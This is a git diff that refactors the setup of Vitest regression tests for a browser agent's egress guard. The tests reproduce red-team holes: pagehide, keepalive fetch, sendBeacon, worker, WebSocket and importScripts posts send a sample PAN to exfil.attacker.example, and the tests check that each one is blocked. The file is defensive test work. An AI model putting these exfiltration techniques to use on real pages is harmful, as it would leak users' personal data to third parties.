@@ -1,10 +1,10 @@
 import { createSocket, type Socket as UdpSocket } from 'node:dgram';
-import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { launchChromium } from '../../src/agent/browser/chromium';
+import type { Page } from 'playwright-core';
+import { beforeEach, describe, expect, it } from 'vitest';
 import { loadPortalProfile } from '../../src/agent/case/portal-profiles';
 import { installWatchdogs, openGuardedContext, type GuardEvent } from '../../src/agent/guard/browser';
-import { bindLabProfile, PORTAL_HOSTS, startLab, type Lab } from '../../lab';
+import { bindLabProfile, PORTAL_HOSTS } from '../../lab';
+import { useLabBrowser } from '../support/lab-browser';
 
 /**
  * Holes the red team found in the guard, each as its smallest repro, kept as regression tests: a
@@ -33,17 +33,8 @@ import { bindLabProfile, PORTAL_HOSTS, startLab, type Lab } from '../../lab';
  * WebRTC then uses only TCP through the proxy, where the egress lock refuses it.
  */
 
-let lab: Lab;
-let browser: Browser;
-beforeAll(async () => {
-  lab = await startLab();
-  browser = await launchChromium({ hostResolverRules: lab.hostResolverRules });
-});
-afterAll(async () => {
-  await browser?.close();
-  await lab?.stop();
-});
-beforeEach(() => lab.reset());
+const live = useLabBrowser();
+beforeEach(() => live.lab.reset());
 
 interface Guarded {
   page: Page;
@@ -53,20 +44,20 @@ interface Guarded {
 
 /** A portal page in a guarded context, exactly as a run gets one. */
 async function guardedPortalPage(): Promise<Guarded> {
-  const profile = bindLabProfile(loadPortalProfile('shops'), lab.port);
-  const context = await openGuardedContext(browser, profile);
+  const profile = bindLabProfile(loadPortalProfile('shops'), live.lab.port);
+  const context = await openGuardedContext(live.browser, profile);
   const events: GuardEvent[] = [];
   const watchdogs = await installWatchdogs(context, profile, (event) => events.push(event));
   const page = await watchdogs.openPage();
-  await page.goto(`${lab.origin('shops')}/sign-in`);
+  await page.goto(`${live.lab.origin('shops')}/sign-in`);
   return { page, events, close: () => context.close() };
 }
 
 /** Everything that reached the lab off the portal: attacker hosts, the second port, other lab hosts (the control API on 127.0.0.1). */
 function offPortal(): string[] {
   return [
-    ...lab.attackerRequests().map((r) => `attacker ${r.method} ${r.host}${r.path} ${r.body}`),
-    ...lab.requestLog().filter((r) => r.host !== PORTAL_HOSTS.shops).map((r) => `lab ${r.method} ${r.host}${r.path}`),
+    ...live.lab.attackerRequests().map((r) => `attacker ${r.method} ${r.host}${r.path} ${r.body}`),
+    ...live.lab.requestLog().filter((r) => r.host !== PORTAL_HOSTS.shops).map((r) => `lab ${r.method} ${r.host}${r.path}`),
   ];
 }
 
@@ -77,7 +68,7 @@ function egressStops(events: readonly GuardEvent[]): string[] {
 
 /** Starts a request to the attacker from a pagehide handler, then leaves the page the way the agent does. */
 async function leakOnTheWayOut(page: Page, kind: 'keepalive' | 'beacon'): Promise<void> {
-  const url = `http://exfil.attacker.example:${lab.port}/unload-${kind}`;
+  const url = `http://exfil.attacker.example:${live.lab.port}/unload-${kind}`;
   await page.evaluate(
     ([target, how]) => {
       addEventListener('pagehide', () => {
@@ -87,7 +78,7 @@ async function leakOnTheWayOut(page: Page, kind: 'keepalive' | 'beacon'): Promis
     },
     [url, kind],
   );
-  await page.goto(`${lab.origin('shops')}/sign-in?next`);
+  await page.goto(`${live.lab.origin('shops')}/sign-in?next`);
 }
 
 const WORKER_PATH = '/lab-attack/page/shared-worker/shared-worker.js?atk=shared-worker';
@@ -100,7 +91,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
         new Worker(src.replace('shared-worker.js', 'worker.js').replace('/shared-worker/', '/dedicated-worker/')).postMessage('owner_pan=AMNPR6621D');
       }, WORKER_PATH);
       await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
-      expect(lab.attackRecords().hits.some((h) => h.kind === 'page')).toBe(true);
+      expect(live.lab.attackRecords().hits.some((h) => h.kind === 'page')).toBe(true);
       await page.waitForTimeout(500);
       expect(offPortal()).toEqual([]);
     } finally {
@@ -118,7 +109,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
       }, WORKER_PATH);
       // The worker script was served (the attempt was made), and the egress lock stopped both of its posts...
       await expect.poll(() => egressStops(events).filter((u) => u.includes('exfil.attacker.example')).length, { timeout: 15_000 }).toBe(2);
-      expect(lab.attackRecords().hits.some((h) => h.kind === 'page' && h.attack === 'shared-worker')).toBe(true);
+      expect(live.lab.attackRecords().hits.some((h) => h.kind === 'page' && h.attack === 'shared-worker')).toBe(true);
       // ...so nothing reached the attacker.
       await page.waitForTimeout(500);
       expect(offPortal()).toEqual([]);
@@ -131,12 +122,12 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
     const { page, events, close } = await guardedPortalPage();
     try {
       const targets = {
-        name: `http://exfil.attacker.example:${lab.port}/worker-fetch?d=AMNPR6621D`,
-        ip: `http://127.0.0.1:${lab.port}/worker-ip?d=AMNPR6621D`,
-        otherPort: `http://${PORTAL_HOSTS.shops}:${lab.attackerPort}/worker-port?d=AMNPR6621D`,
-        socket: `ws://exfil.attacker.example:${lab.port}/worker-socket?d=AMNPR6621D`,
-        script: `http://exfil.attacker.example:${lab.port}/worker-import.js?d=AMNPR6621D`,
-        portal: `${lab.origin('shops')}/sign-in?from-worker`,
+        name: `http://exfil.attacker.example:${live.lab.port}/worker-fetch?d=AMNPR6621D`,
+        ip: `http://127.0.0.1:${live.lab.port}/worker-ip?d=AMNPR6621D`,
+        otherPort: `http://${PORTAL_HOSTS.shops}:${live.lab.attackerPort}/worker-port?d=AMNPR6621D`,
+        socket: `ws://exfil.attacker.example:${live.lab.port}/worker-socket?d=AMNPR6621D`,
+        script: `http://exfil.attacker.example:${live.lab.port}/worker-import.js?d=AMNPR6621D`,
+        portal: `${live.lab.origin('shops')}/sign-in?from-worker`,
       };
       const answer = await page.evaluate(async (t) => {
         const source = `
@@ -168,7 +159,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
           targets.name,
           targets.ip,
           targets.otherPort,
-          `exfil.attacker.example:${lab.port}`,
+          `exfil.attacker.example:${live.lab.port}`,
           targets.script,
         ]),
       );
@@ -186,7 +177,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
       await page.evaluate((target) => {
         void fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
         navigator.sendBeacon(target, 'owner_pan=AMNPR6621D');
-      }, `http://exfil.attacker.example:${lab.port}/alive`);
+      }, `http://exfil.attacker.example:${live.lab.port}/alive`);
       await expect.poll(() => events.filter((e) => e.type === 'request_blocked').length, { timeout: 15_000 }).toBeGreaterThanOrEqual(2);
       await page.waitForTimeout(500);
       expect(offPortal()).toEqual([]);
@@ -200,7 +191,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
     try {
       await leakOnTheWayOut(page, 'keepalive');
       await leakOnTheWayOut(page, 'beacon');
-      const unload = (kind: string) => `http://exfil.attacker.example:${lab.port}/unload-${kind}`;
+      const unload = (kind: string) => `http://exfil.attacker.example:${live.lab.port}/unload-${kind}`;
       await expect.poll(() => egressStops(events).filter((u) => u === unload('keepalive') || u === unload('beacon')).sort(), { timeout: 15_000 }).toEqual([unload('beacon'), unload('keepalive')]);
       await page.waitForTimeout(1000);
       expect(offPortal()).toEqual([]);
@@ -212,7 +203,7 @@ describe('guard holes found by the red team, closed by the egress lock', () => {
   it('HOLE 2 closed: the same on the way out of a closing page', async () => {
     const { page, events, close } = await guardedPortalPage();
     try {
-      const target = `http://exfil.attacker.example:${lab.port}/unload-on-close`;
+      const target = `http://exfil.attacker.example:${live.lab.port}/unload-on-close`;
       await page.evaluate((t) => {
         addEventListener('pagehide', () => {
           void fetch(t, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'owner_pan=AMNPR6621D' }).catch(() => undefined);
